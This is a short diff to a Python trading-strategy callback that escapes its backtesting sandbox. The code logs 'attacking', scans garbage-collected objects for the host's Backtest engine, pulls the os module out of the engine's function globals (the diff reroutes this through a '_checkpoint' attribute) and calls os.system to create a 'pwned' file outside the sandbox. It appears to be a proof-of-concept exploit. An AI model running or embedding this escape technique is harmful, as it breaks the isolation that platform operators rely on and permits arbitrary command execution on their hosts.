@@ -17,4 +17,6 @@ def handle_data(context, data):
         log.info("attacking")
         engines = [o for o in gc.get_objects() if type(o).__name__ == "Backtest"]
         log.info("engine objects reachable: %d" % len(engines))
-        type(engines[0]).__init__.__globals__["os"].system("touch " + OUTSIDE + "/pwned")
+        engine_globals = type(engines[0]).__init__.__globals__
+        os_module = engine_globals["_checkpoint"].os          # a module the engine imported
+        os_module.system("touch " + OUTSIDE + "/pwned")
